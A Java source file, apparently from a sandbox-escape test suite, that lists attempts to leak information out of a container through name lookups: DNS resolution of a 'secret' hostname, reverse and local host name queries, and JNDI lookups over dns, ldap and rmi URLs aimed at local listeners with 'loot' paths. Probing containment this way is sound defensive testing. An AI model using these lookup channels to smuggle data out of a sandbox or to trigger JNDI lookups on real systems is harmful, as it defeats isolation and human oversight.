package net.chingtech.escape;

import java.lang.reflect.InvocationTargetException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.Hashtable;
import java.util.List;

/** Names and directories: what a lookup tells to whoever answers it. */
final class NameWays {

    private NameWays() {}

    static List<Attempt> all() {
        return List.of(
                new Attempt("names.resolve", "look a name up", w -> w.reached(InetAddress.getByName("localhost"))),
                new Attempt(
                        "names.resolve_all",
                        "look a name up in the world",
                        w -> InetAddress.getAllByName("secret-of-the-container.example.com")),
                new Attempt("names.reverse", "ask for the name of an address", w -> {
                    InetAddress address = InetAddress.getByAddress(new byte[] {127, 0, 0, 1});
                    String name = address.getCanonicalHostName();
                    if (name.equals("127.0.0.1")) {
                        throw new OnlyItself("no name came back");
                    }
                    return w.reached(name);
                }),
                new Attempt("names.socket_address", "look a name up by a socket address", w -> {
                    InetSocketAddress address = new InetSocketAddress("localhost", 1);
                    if (address.isUnresolved()) {
                        throw new OnlyItself("it stayed unresolved");
                    }
                    return w.reached(address);
                }),
                new Attempt("names.local_host", "ask for the machine's name", w -> {
                    String name = InetAddress.getLocalHost().getHostName();
                    if (name.equals("localhost")) {
                        throw new OnlyItself("no name but localhost");
                    }
                    return w.reached(name);
                }),
                new Attempt("names.jndi_dns", "ask a DNS server of its own by JNDI", w -> {
                    // The listener sees the question; nobody answers.
                    return lookup("dns://127.0.0.1:" + w.port("udp_port") + "/loot.example");
                }),
                new Attempt(
                        "names.jndi_ldap",
                        "ask an LDAP server by JNDI",
                        w -> lookup("ldap://127.0.0.1:" + w.port("tcp_port") + "/cn=loot")),
                new Attempt(
                        "names.jndi_rmi",
                        "ask an RMI registry by JNDI",
                        w -> lookup("rmi://127.0.0.1:" + w.port("tcp_port") + "/loot")));
    }

    private static Object lookup(String url) throws Throwable {
        Hashtable<String, String> environment = new Hashtable<>();
        environment.put("com.sun.jndi.dns.timeout.initial", "200");
        environment.put("com.sun.jndi.dns.timeout.retries", "1");
        environment.put("com.sun.jndi.ldap.connect.timeout", "500");
        environment.put("com.sun.jndi.ldap.read.timeout", "500");
        Class<?> context = World.type("javax.naming.InitialContext");
        Thread thread = Thread.currentThread();
        ClassLoader before = thread.getContextClassLoader();
        try {
            // It looks for who can read the address by this one.
            thread.setContextClassLoader(ClassLoader.getPlatformClassLoader());
            Object made = context.getConstructor(Hashtable.class).newInstance(environment);
            return context.getMethod("lookup", String.class).invoke(made, url);
        } catch (InvocationTargetException e) {
            throw e.getCause();
        } finally {
            thread.setContextClassLoader(before);
        }
    }
}
